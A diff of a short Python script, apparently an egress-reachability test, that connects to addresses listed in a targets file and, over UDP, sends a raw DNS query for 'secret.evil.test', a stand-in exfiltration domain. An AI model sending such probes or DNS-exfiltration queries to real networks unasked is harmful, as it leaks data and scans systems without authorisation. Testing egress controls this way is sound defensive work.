@@ -131,14 +131,14 @@ import concurrent.futures, socket
 QUERY = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\x01\0\x01"
 def attempt(line):
     name, network, ip, port = line.split()
-    with socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM if network == "tcp" else socket.SOCK_DGRAM) as s:
-        s.settimeout(2)
-        try:
+    try:
+        with socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM if network == "tcp" else socket.SOCK_DGRAM) as s:
+            s.settimeout(2)
             s.connect((ip, int(port)))
             if network == "udp":
                 s.send(QUERY); s.recv(1)
-        except OSError:
-            return
+    except OSError:
+        return
     print("reached", name)
 lines = open("targets.txt").read().splitlines()
 for _ in range(2):
